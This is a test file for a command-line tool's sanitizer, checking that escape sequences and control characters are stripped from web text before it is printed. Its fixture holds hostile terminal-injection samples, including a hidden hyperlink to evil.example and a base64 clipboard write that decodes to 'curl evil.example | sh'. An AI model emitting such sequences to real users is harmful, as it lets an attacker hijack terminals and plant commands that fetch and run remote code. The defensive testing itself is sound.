import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../support/run-cli';
import { tempDir } from '../support/temp-dir';
import { terminalText } from '../../src/cli/terminal-text';

const ESC = '\u001b';
/** What a web page can make a terminal do: clear it, recolour, retitle, plant a hyperlink, overwrite a line, ring, and the 8-bit forms. */
const HOSTILE = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}[31;1mred${ESC}[0m`,
  `${ESC}]0;pwned${ESC}\\`,
  `${ESC}]8;;https://evil.example${ESC}\\click here${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  `${ESC}P+q544e\u001b\\`,
  '\u009b2J\u009d0;c1 title\u009c',
  'fake\rreal\u0007\u007f',
].join(' ');
/** Any control character but the line break and the tab. */
const CONTROL = /(?![\n\t])\p{Cc}/u;

describe('web text printed by the command line', () => {
  it('keeps the words and drops every escape sequence and control character', () => {
    const printed = terminalText(`Acme ${HOSTILE}\n\tdone`);
    expect(printed).not.toMatch(CONTROL);
    expect(printed).toBe('Acme  red  click here    fakereal\n\tdone');
    // An unterminated string stops at the line's end, not at the end of the output.
    expect(terminalText(`${ESC}]0;no end\nnext line`)).toBe('\nnext line');
  });

  it('library search prints a hostile document as plain text, and --json keeps it escaped', async () => {
    const dir = tempDir();
    const folder = path.join(dir, 'research');
    fs.mkdirSync(folder);
    fs.writeFileSync(
      path.join(folder, 'acme.md'),
      `# Acme notes ${ESC}]0;pwned${ESC}\\\n\nAcme payroll ${HOSTILE} review.`,
    );
    const env = { CRM_INTEL_DATA_DIR: path.join(dir, 'data') };
    expect((await runCli(['settings', 'set', 'researchFolder', folder], env)).code).toBe(0);
    expect((await runCli(['library', 'index'], env)).code).toBe(0);

    const human = await runCli(['library', 'search', 'payroll'], env);
    expect(human.code).toBe(0);
    expect(human.stdout).toContain('Acme payroll');
    expect(human.stdout).not.toMatch(CONTROL);

    const json = await runCli(['library', 'search', 'payroll', '--json'], env);
    expect(json.stdout).not.toMatch(CONTROL);
    expect(JSON.parse(json.stdout)[0].content).toContain(`${ESC}[31;1mred`);
  });
});
